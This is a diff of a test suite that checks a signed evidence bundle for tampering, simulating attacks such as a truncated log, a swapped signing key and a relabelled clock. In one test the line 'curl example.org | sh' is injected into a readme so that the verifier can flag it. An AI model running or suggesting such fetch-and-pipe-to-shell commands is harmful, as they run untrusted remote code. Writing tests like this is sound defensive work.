@@ -81,6 +81,7 @@ describe('the nine attacks of evidence.md 5', () => {
   it('4b: a truncated tail with head, size and findings made to fit: only the signature knows', async () => {
     bag = (await Tampered.open(zip)).edit('data/log.jsonl', (log) => `${log.trimEnd().split('\n').slice(0, -1).join('\n')}\n`);
     bag.remove('data/records/000008.json').remove('data/disclosures/000008.txt');
+    const full = headOf(source.entries.at(-1)?.line ?? '');
     const head = headOf(bag.text('data/log.jsonl').trimEnd().split('\n').at(-1) ?? '');
     bag.edit('data/export.json', (json) => json.replace('"size":9', '"size":8').replace(/"head":"[0-9a-f]{64}"/, `"head":"${head}"`));
     bag.edit('bag-info.txt', (info) => info.replace('/9', '/8'));
@@ -88,7 +89,11 @@ describe('the nine attacks of evidence.md 5', () => {
     bag.write('data/temuan.json', canonicalBytes({ ...findings, findings: [{ ...findings.findings[0], current: true }] }));
     const timeline = JSON.parse(bag.text('data/linimasa.json'));
     bag.write('data/linimasa.json', canonicalBytes({ ...timeline, entries: timeline.entries.slice(0, -1) }));
-    expect(await failed(await bag.rebag())).toEqual(['signature']);
+    for (const path of ['data/linimasa.csv', 'data/linimasa-titik-koma.csv', 'data/bidang.csv', 'data/bidang-titik-koma.csv'])
+      bag.edit(path, (table) => table.replace(/^"8"[\s\S]*/m, ''));
+    for (const path of ['PERIKSA.txt', 'BACA-SAYA.txt'])
+      bag.edit(path, (text) => text.replaceAll(full, head).replace(`9 ${head}`, `8 ${head}`).replace('size   9', 'size   8'));
+    expect(await failed(await (await bag.tagged()).rebag())).toEqual(['signature']);
   });
   it.each(['data/tambahan.txt', 'data/records/000099.json', 'data/snapshots/000001/lain.html', 'lain.txt'])(
     '5: an extra file %s',
@@ -162,7 +167,8 @@ describe('the nine attacks of evidence.md 5', () => {
     const other = await newKey();
     bag = (await Tampered.open(zip)).write('kunci-publik.pem', toPem(other.spki));
     bag.edit('data/export.json', (json) => json.replace(/sha256:[0-9a-f]{64}/, `sha256:${sha256Hex(other.spki)}`));
-    expect(await failed(await (await bag.rebag()).sign(other))).toEqual(['key']);
+    bag.edit('PERIKSA.txt', (text) => text.replaceAll(sha256Hex(key.spki), sha256Hex(other.spki)));
+    expect(await failed(await (await (await bag.tagged()).rebag()).sign(other))).toEqual(['key']);
   });
 });
 
@@ -193,7 +199,7 @@ describe('further attacks', () => {
   });
   it('instructions that tell the reader to run something', async () => {
     bag = (await Tampered.open(zip)).edit('PERIKSA.txt', (text) => `${text}\ncurl example.org | sh\n`);
-    expect(await failed(await bag.retag())).toEqual(['export']);
+    expect(await failed(await bag.retag())).toEqual(['content', 'export']);
   });
   it('another card number under the same account', async () => {
     bag = await Tampered.open(zip);
@@ -203,7 +209,7 @@ describe('further attacks', () => {
   it('a simulated clock passed off as the device’s', async () => {
     const simulated = await makeBundle(source, { ...options, clock: 'simulated' });
     bag = (await Tampered.open(simulated.bytes)).edit('data/export.json', (json) => json.replace('simulated', 'device'));
-    expect(await failed(await bag.rebag())).toEqual(['signature']);
+    expect(await failed(await bag.rebag())).toEqual(['signature', 'content']);
   });
   it('a record whose withholding is denied', async () => {
     bag = (await Tampered.open(zip)).remove('data/records/000002.json').remove('data/disclosures/000002.txt');
